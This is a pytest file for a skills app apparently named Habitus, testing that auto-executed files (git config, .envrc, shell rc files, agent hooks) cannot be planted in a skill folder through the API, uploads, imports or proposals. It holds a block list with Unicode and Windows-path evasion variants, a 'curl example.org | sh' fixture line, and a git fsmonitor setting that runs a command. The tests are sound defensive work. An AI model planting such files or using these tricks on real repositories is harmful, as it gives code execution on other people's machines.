"""Files that other tools run by themselves can't be planted in the folder of a skill, by no door."""

from __future__ import annotations

import io
import shutil
import subprocess
import zipfile
from pathlib import Path
from urllib.parse import quote

import pytest
from fastapi.testclient import TestClient

from habitus.app import Habitus
from habitus.app.library.importing import ImportOptions, import_skills
from habitus.app.operating.people import UserRole, open_user_accounts
from habitus.errors import Refused
from habitus.files import build_tree_file
from habitus.skills.layers.layer import USER_LAYER
from habitus.skills.review import ProposalAction, SkillChange

API = "/api/v1"
PLANTED = [
    *(".git/config", "sub/.GIT/HEAD", ".jj/repo", ".envrc", ".vscode/tasks.json", "sub/.claude/settings.json"),
    *("HEAD", "sub/HEAD", "mise.local.toml", ".mise/config.toml", ".rtx.toml", ".lvimrc", ".sl/config"),
    *(".pijul/config", "tea.code-workspace", ".yarnrc.yml", ".opencode/plugin/x.js", ".config/mise.toml"),
    *("opencode.json", "sub/OpenCode.jsonc", ".opencode/command/x.md", ".pi/settings.json", ".qwen/settings.json"),
    *(
        ".kiro/hooks/x.kiro.hook",
        ".roo/mcp.json",
        ".vimrc",
        ".husky/pre-commit",
        ".gi\u200bt/config",
        ".g\u200cit/hooks/x",
    ),
    *(
        ".git./config",
        ".git /config",
        "git~1/config",
        ".g\u115fit/config",
        ".gi\u034ft/HEAD",
        ".gi\u3164t/x",
        "GIT~2/hooks/x",
        "\ufeff.envrc",
        ".\uff47it/config",
    ),
    *("lefthook.toml", ".windsurf/hooks.json", "crush.json", ".zed/settings.json", ".pdbrc", "r/.Rprofile"),
    *(".factory/mcp.json", ".amp/settings.json", ".iflow/settings.json", ".kilocode/mcp.json", ".continue/config.yaml"),
    *(".bashrc", "sub/.zshrc", ".profile", ".zshenv", ".bash_login", ".config/fish/config.fish", ".continue/config.ts"),
    *(".claude/agents/x.md", "sub/.claude/commands/x.md", "bashrc~1", ".Factory/MCP.json", ".factory/commands/x.md"),
    *(".npmrc", ".cargo/config.toml", "sub/.cursor/environment.json", ".gi\U000e0100t/config"),
    *(".claude/mcp.json", ".claude/plugins/x/hooks/hooks.json", ".codex/agents/x.toml", ".gemini/hooks/x.sh"),
    *(
        ".gemini/.env",
        ".github/hooks/x.json",
        ".kiro/agents/x.json",
        ".amazonq/cli-agents/x.json",
        ".openhands/setup.sh",
    ),
    *(".idea/runConfigurations/x.xml", ".aider.conf.yml", ".Renviron", ".RData", ".ghci", ".ocamlinit", ".yarnrc"),
    *("bunfig.toml", "jupyter_server_config.py", ".devcontainer/x/devcontainer.json", ".config/mise/conf.d/x.toml"),
    *(".claude./settings.json", "claude~1/settings.json", ".Husky/pre-commit", ".git::$INDEX_ALLOCATION/config"),
]
ORDINARY = [
    ".pi.md",
    "opencode.md",
    "references/git~notes.md",
    "husky/pre-commit",
    ".env.example",
    ".env",
    ".gitignore",
    "references/claude/settings.json",
    ".github/workflows/x.yml",
    "AGENTS.md",
    "config",
    "references/head.md",
    "scripts/mise.py",
]
UNSEEN = ["__pycache__/tool.py", "scripts/tool.pyc", ".habitus-x"]
SKILL = "---\nname: press-flowers\ndescription: Presses flowers.\n---\n1. Press.\n"


@pytest.mark.req("SC-07")
@pytest.mark.parametrize("path", [*PLANTED, *UNSEEN])
def test_a_file_that_others_run_or_no_history_sees_is_not_put(api: TestClient, habitus: Habitus, path: str) -> None:
    tag = {"If-Match": api.get(f"{API}/skills/brew-tea").headers["etag"]}
    answer = api.put(f"{API}/skills/brew-tea/files/{quote(path)}", content=b"[core]\n", headers=tag)
    assert answer.status_code == 409, answer.text
    folder = habitus.skills.find_directory("brew-tea")
    assert folder is not None
    assert not (folder / path).exists()


@pytest.mark.req("SC-07")
def test_files_that_only_look_like_such_are_put(api: TestClient) -> None:
    for path in ORDINARY:
        tag = {"If-Match": api.get(f"{API}/skills/brew-tea").headers["etag"]}
        answer = api.put(f"{API}/skills/brew-tea/files/{path}", content=b"x\n", headers=tag)
        assert (path, answer.status_code) == (path, 200)


@pytest.mark.req("SC-07")
@pytest.mark.skipif(shutil.which("git") is None, reason="git is not installed")
def test_no_repository_can_be_planted_whose_settings_git_obeys(
    api: TestClient, habitus: Habitus, tmp_path: Path
) -> None:
    run = f'fsmonitor = "touch {tmp_path}/ran; false"'
    settings = f"[core]\nrepositoryformatversion = 0\nbare = false\nworktree = .\n{run}\n"
    planted = {"HEAD": "ref: refs/heads/main\n", "config": settings, "objects/x": "x", "refs/x": "x"}
    for path, text in planted.items():
        tag = {"If-Match": api.get(f"{API}/skills/brew-tea").headers["etag"]}
        api.put(f"{API}/skills/brew-tea/files/{path}", content=text.encode(), headers=tag)
    folder = habitus.skills.find_directory("brew-tea")
    assert folder is not None
    assert (folder / "config").read_text() == settings
    subprocess.run(["git", "status"], cwd=folder, capture_output=True, check=False)
    assert not (tmp_path / "ran").exists()


@pytest.mark.req("SC-07")
def test_a_file_that_the_owner_put_there_by_hand_can_be_changed_by_them_alone(
    api: TestClient, stranger: TestClient, habitus: Habitus
) -> None:
    folder = habitus.skills.find_directory("brew-tea")
    assert folder is not None
    (folder / ".envrc").write_text("export TEA=1\n")
    tag = {"If-Match": api.get(f"{API}/skills/brew-tea").headers["etag"]}
    token = open_user_accounts(habitus).add_or_reinvite_user("bob", UserRole.ADMIN).token
    stranger.headers["Authorization"] = f"Bearer {token}"
    assert stranger.put(f"{API}/skills/brew-tea/files/.envrc", content=b"x", headers=tag).status_code == 409
    assert (folder / ".envrc").read_text() == "export TEA=1\n"
    # Nor by any other door: an edit of the library, or a proposal that is approved.
    guest = habitus.as_user("bob", is_admin=True)
    with pytest.raises(Refused, match=r"'.envrc' can't be a file of a skill"):
        guest.skills.edit_file("brew-tea", ".envrc", b"x", guest.build_author())
    tree = guest.skills.read_tree("brew-tea")
    for path, text in ((".envrc", b"x"), (".bashrc", b"x")):
        change = SkillChange(
            action=ProposalAction.WRITE, layer=USER_LAYER, name="brew-tea", tree={**tree, path: build_tree_file(text)}
        )
        with pytest.raises(Refused, match=f"'{path}' can't be a file of a skill"):
            guest.review.submit(change, guest.build_author("x"))
    assert (folder / ".envrc").read_text() == "export TEA=1\n"
    assert api.put(f"{API}/skills/brew-tea/files/.envrc", content=b"", headers=tag).status_code == 200


def zipped(path: str) -> dict[str, tuple[str, bytes]]:
    sent = io.BytesIO()
    with zipfile.ZipFile(sent, "w") as archive:
        archive.writestr("press-flowers/SKILL.md", SKILL)
        archive.writestr(f"press-flowers/{path}", "curl example.org | sh\n")
    return {"file": ("flowers.zip", sent.getvalue())}


@pytest.mark.req("SC-07")
def test_an_upload_with_such_a_file_is_refused_and_its_preview_says_so(api: TestClient) -> None:
    for path in PLANTED:
        (shown,) = api.post(f"{API}/uploads", files=zipped(path)).json()["scanned"]
        assert shown["run_unasked"] == [path]
        answer = api.post(f"{API}/uploads?save=true", files=zipped(path))
        assert (answer.status_code, path in answer.json()["title"]) == (409, True)
    assert api.get(f"{API}/skills/press-flowers").status_code == 404


@pytest.mark.req("SC-07")
def test_the_page_offers_no_saving_of_an_upload_that_would_be_refused(browser: TestClient) -> None:
    for path, is_offered in ((".git/config", False), ("notes.md", True)):
        page = browser.post("/import/look", files=zipped(path)).text
        assert ("is not allowed in a skill" in page, ">Import</button>" in page) == (not is_offered, is_offered)


@pytest.mark.req("SC-07")
def test_an_import_leaves_such_files_out_and_says_so(habitus: Habitus, tmp_path: Path) -> None:
    top = tmp_path / "collection"
    for number, path in enumerate(PLANTED):
        place = top / f"press-{number}"
        (place / path).parent.mkdir(parents=True)
        (place / "SKILL.md").write_text(SKILL.replace("press-flowers", place.name))
        (place / path).write_text("{}")
    noted = {one.name: one.notes for one in import_skills(habitus, top, (), USER_LAYER, ImportOptions()).results}
    for number, path in enumerate(PLANTED):
        name = f"press-{number}"
        assert sorted(habitus.skills.read_tree(name)) == ["SKILL.md"]
        assert [note for note in noted[name] if note.startswith(f"{path}: Skipped")]


@pytest.mark.req("SC-07")
def test_an_import_says_nothing_of_the_version_control_of_a_working_copy(habitus: Habitus, tmp_path: Path) -> None:
    place = tmp_path / "press-flowers"
    for path in (".git/config", "sub/.git"):
        (place / path).parent.mkdir(parents=True)
        (place / path).write_text("x")
    (place / "SKILL.md").write_text(SKILL)
    (taken,) = import_skills(habitus, place, (), USER_LAYER, ImportOptions()).results
    assert sorted(habitus.skills.read_tree("press-flowers")) == ["SKILL.md"]
    assert [note.partition(":")[0] for note in taken.notes] == ["sub/.git"]
